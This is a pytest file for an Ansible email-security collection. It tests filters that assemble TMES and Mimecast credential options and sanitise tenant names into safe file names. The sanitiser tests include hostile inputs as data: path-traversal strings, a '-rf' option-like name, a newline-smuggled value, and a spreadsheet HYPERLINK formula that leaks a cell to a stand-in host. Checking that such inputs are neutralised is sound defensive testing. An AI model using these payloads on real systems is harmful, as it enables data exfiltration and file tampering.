# -*- coding: utf-8 -*-
# Copyright: Contributors to the emailsec.tracking collection
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import os

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.emailsec.tracking.plugins.filter.options import (
    FilterModule, safe_name, vendor_options, vendor_ready,
)
from ansible_collections.emailsec.tracking.plugins.module_utils._mimecast_account import auth_argspec
from ansible_collections.emailsec.tracking.plugins.module_utils._tmes_search import tmes_auth_argspec

ENV_NAMES = ("TMES_USERNAME", "TMES_API_KEY", "TMES_API_URL", "TMES_REGION", "MIMECAST_ACCESS_KEY",
             "MIMECAST_SECRET_KEY", "MIMECAST_APP_ID", "MIMECAST_APP_KEY", "MIMECAST_CLIENT_ID",
             "MIMECAST_CLIENT_SECRET", "MIMECAST_AUTH_TYPE", "MIMECAST_BASE_URL")
CONNECTION = {"validate_certs": False, "ca_path": "/etc/ca.pem", "timeout": 30, "total_timeout": 600, "retries": 2,
              "retry_max_delay": 9}
TMES_FULL = dict(CONNECTION, api_url="http://127.0.0.1:1", region="eu", username="u", api_key="k")
HMAC = {"access_key": "a", "secret_key": "s", "app_id": "i", "app_key": "p"}
OAUTH2 = {"client_id": "c", "client_secret": "cs"}
MIMECAST_FULL = dict(CONNECTION, base_url="http://127.0.0.1:2", region="global", auth_type="oauth2", **dict(HMAC,
                                                                                                            **OAUTH2))


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch):
    for name in ENV_NAMES:
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


def test_registered():
    assert set(FilterModule().filters()) == {"vendor_options", "vendor_ready", "safe_name"}


def test_every_tmes_option_passes_and_is_a_module_option():
    assert vendor_options(TMES_FULL, "tmes") == TMES_FULL
    for key in ("api_url", "region", "username", "api_key"):
        assert key in tmes_auth_argspec()


def test_every_mimecast_option_passes_and_is_a_module_option():
    assert vendor_options(MIMECAST_FULL, "mimecast") == MIMECAST_FULL
    for key in ("base_url", "region", "auth_type") + tuple(HMAC) + tuple(OAUTH2):
        assert key in auth_argspec()


def test_per_module_mimecast_keys_are_accepted_and_left_out():
    settings = dict(OAUTH2, slice="6h", result_cap=50, search_reason="IR-1", wait=True, wait_timeout=60,
                    poll_interval=5)
    assert vendor_options(settings, "mimecast") == OAUTH2
    assert vendor_ready(settings, "mimecast") is True


@pytest.mark.parametrize("vendor, key, hint", [
    ("tmes", "api_ulr", "api_ulr (did you mean api_url?)"),
    ("mimecast", "client_secert", "client_secert (did you mean client_secret?)"),
    ("tmes", "slice", "slice"),            # a Mimecast search option is not a TMES one
    ("mimecast", "zzz", "zzz"),
])
def test_unknown_key_is_named_with_the_allowed_keys(vendor, key, hint):
    for function in (vendor_options, vendor_ready):
        with pytest.raises(AnsibleFilterError) as info:
            function({key: "x", "username": "u"} if vendor == "tmes" else {key: "x"}, vendor)
        message = str(info.value)
        assert "unknown key: %s." % hint in message
        assert "Allowed keys:" in message and ("api_url" in message if vendor == "tmes" else "base_url" in message)
        assert function.__name__ in message


def test_bad_vendor_settings_and_environment():
    with pytest.raises(AnsibleFilterError, match="vendor must be tmes or mimecast, not 'mimcast'"):
        vendor_options({}, "mimcast")
    with pytest.raises(AnsibleFilterError, match="must be a dictionary of module options, not list"):
        vendor_ready(["x"], "tmes")
    with pytest.raises(AnsibleFilterError, match="environment must be true or false, not 'maybe'"):
        vendor_options({}, "tmes", "maybe")


def test_none_and_empty_settings_are_no_settings():
    assert vendor_options(None, "tmes") == {} and vendor_options("", "mimecast") == {}
    assert vendor_ready(None, "tmes") is False and vendor_ready({}, "mimecast") is False


def test_null_and_blank_values_are_not_given():
    settings = {"api_url": "", "region": None, "username": "  ", "api_key": "k", "timeout": 0}
    assert vendor_options(settings, "tmes") == {"api_key": "k", "timeout": 0}


def test_tmes_ready_needs_both_credentials_from_settings_or_environment(clean_environment):
    assert vendor_ready({"username": "u", "api_key": "k"}, "tmes") is True
    assert vendor_ready({"username": "u"}, "tmes") is False
    clean_environment.setenv("TMES_API_KEY", "envkey")
    assert vendor_ready({"username": "u"}, "tmes") is True
    assert vendor_ready({"username": "u"}, "tmes", environment=False) is False
    assert vendor_ready({"username": "u"}, "tmes", "false") is False
    clean_environment.setenv("TMES_USERNAME", " ")   # blank: an AWX injector's empty field
    assert vendor_ready({}, "tmes") is False
    clean_environment.setenv("TMES_USERNAME", "envuser")
    assert vendor_ready({}, "tmes") is True and vendor_ready({}, "tmes", False) is False


@pytest.mark.parametrize("settings, environment, ready", [
    (OAUTH2, {}, True),
    ({"client_id": "c"}, {}, False),
    ({"client_id": "c"}, {"MIMECAST_CLIENT_SECRET": "x"}, True),
    (HMAC, {}, True),
    (dict(HMAC, app_key=""), {}, False),
    ({"access_key": "a", "secret_key": "s"}, {"MIMECAST_APP_ID": "i", "MIMECAST_APP_KEY": "p"}, True),
    ({}, {"MIMECAST_CLIENT_ID": "c", "MIMECAST_CLIENT_SECRET": "s"}, True),
    ({"client_id": "c", "access_key": "a"}, {}, False),
])
def test_mimecast_ready(clean_environment, settings, environment, ready):
    for name, value in environment.items():
        clean_environment.setenv(name, value)
    assert vendor_ready(settings, "mimecast") is ready
    # without the environment only the settings count
    assert vendor_ready(settings, "mimecast", False) is (ready and not environment)


def test_both_mimecast_credential_sets_in_settings_choose_api_2():
    assert vendor_options(dict(HMAC, **OAUTH2), "mimecast")["auth_type"] == "oauth2"
    # one key of each set is enough for the module to refuse "both given": choose already
    assert vendor_options({"client_id": "c", "access_key": "a"}, "mimecast")["auth_type"] == "oauth2"


def test_both_mimecast_credential_sets_across_settings_and_environment(clean_environment):
    assert "auth_type" not in vendor_options(OAUTH2, "mimecast")
    clean_environment.setenv("MIMECAST_ACCESS_KEY", "envaccess")
    assert vendor_options(OAUTH2, "mimecast")["auth_type"] == "oauth2"
    assert vendor_options({}, "mimecast") == {}    # one set only (API 1.0 from the environment): nothing chosen
    clean_environment.setenv("MIMECAST_CLIENT_SECRET", "envsecret")
    assert vendor_options({}, "mimecast") == {"auth_type": "oauth2"}


def test_a_chosen_auth_type_is_kept(clean_environment):
    assert vendor_options(dict(HMAC, auth_type="hmac", **OAUTH2), "mimecast")["auth_type"] == "hmac"
    clean_environment.setenv("MIMECAST_AUTH_TYPE", "hmac")
    assert "auth_type" not in vendor_options(dict(HMAC, **OAUTH2), "mimecast")
    clean_environment.setenv("MIMECAST_AUTH_TYPE", " ")    # blank: not a choice
    assert vendor_options(dict(HMAC, **OAUTH2), "mimecast")["auth_type"] == "oauth2"


def test_without_environment_tmes_reads_no_variable(clean_environment):
    for name in ENV_NAMES:
        clean_environment.setenv(name, "from-the-job")
    assert vendor_options({}, "tmes", environment=False) == {"username": "", "api_key": "", "region": "us"}
    assert vendor_options({"api_url": "http://x", "username": "u"}, "tmes", False) == {
        "api_url": "http://x", "username": "u", "api_key": ""}
    assert vendor_options({"region": "eu"}, "tmes", False)["region"] == "eu"


def test_without_environment_mimecast_reads_no_variable(clean_environment):
    for name in ENV_NAMES:
        clean_environment.setenv(name, "from-the-job")
    blank = dict.fromkeys(tuple(HMAC) + tuple(OAUTH2), "")
    assert vendor_options({}, "mimecast", False) == dict(blank, auth_type="oauth2", region="global")
    assert vendor_options(OAUTH2, "mimecast", False) == dict(blank, auth_type="oauth2", region="global", **OAUTH2)
    assert vendor_options(dict(HMAC, region="eu"), "mimecast", False) == dict(blank, auth_type="hmac", region="eu",
                                                                              **HMAC)
    assert vendor_options(dict(HMAC, base_url="http://m"), "mimecast", False)["auth_type"] == "hmac"
    assert vendor_options(dict(HMAC, **OAUTH2), "mimecast", False)["auth_type"] == "oauth2"
    assert vendor_options({"auth_type": "hmac", "region": "us"}, "mimecast", False)["auth_type"] == "hmac"


def test_without_environment_mimecast_api_1_needs_a_region():
    with pytest.raises(AnsibleFilterError, match="API 1.0 needs base_url or region .* when the environment is not"):
        vendor_options(HMAC, "mimecast", False)


def test_with_environment_nothing_is_added(clean_environment):
    for name in ENV_NAMES:
        clean_environment.setenv(name, "")
    assert vendor_options({"username": "u"}, "tmes") == {"username": "u"}
    assert vendor_options(OAUTH2, "mimecast", "yes") == OAUTH2


def test_the_settings_are_not_changed():
    settings = dict(OAUTH2, slice="1h")
    vendor_options(settings, "mimecast", False)
    assert settings == dict(OAUTH2, slice="1h")


def test_environment_is_read_from_os_environ(clean_environment):
    clean_environment.setenv("TMES_USERNAME", "u")
    clean_environment.setenv("TMES_API_KEY", "k")
    assert os.environ["TMES_API_KEY"] == "k" and vendor_ready({}, "tmes") is True
    clean_environment.delenv("TMES_API_KEY")
    assert vendor_ready({}, "tmes") is False


@pytest.mark.parametrize("name", ["acme", "tenant-01", "a.b_c", "localhost", "x" * 64])
def test_safe_names_stay(name):
    assert safe_name(name) == name


@pytest.mark.parametrize("name, start", [
    ("../../escaped", "escaped-"),
    ("a/b", "a-b-"),
    ('=HYPERLINK("http://x.example/?"&A1,"open")', "HYPERLINK-http-x.example-A1-open-"),
    ("..", "host-"),
    ("", "host-"),
    ("/", "host-"),
    (".hidden", "hidden-"),
    ("-rf", "rf-"),
    ("a..b", "a.b-"),
    ("C:\\temp\\x", "C-temp-x-"),
    ("tenant\n=1+1", "tenant-1-1-"),
    ("x" * 65, "x" * 64 + "-"),
])
def test_unsafe_names_become_slugs(name, start):
    slug = safe_name(name)
    assert slug.startswith(start) and len(slug) == len(start) + 10 and len(slug) <= 75
    assert all(ch.isalnum() and ch.isascii() or ch in "._-" for ch in slug)
    assert ".." not in slug and slug[0].isalnum() and slug[-1].isalnum()
    assert os.path.dirname(os.path.normpath(os.path.join("/reports", slug))) == "/reports"


def test_names_differing_in_unsafe_characters_stay_apart():
    assert len({safe_name(n) for n in ("a/b", "a:b", "a b", "a-b")}) == 4
    assert safe_name("a/b") == safe_name("a/b")


def test_safe_name_of_a_number_and_of_nonsense():
    assert safe_name(12) == "12"
    with pytest.raises(AnsibleFilterError, match="give a name"):
        safe_name(None)
    with pytest.raises(AnsibleFilterError, match="give a name"):
        safe_name(["a"])
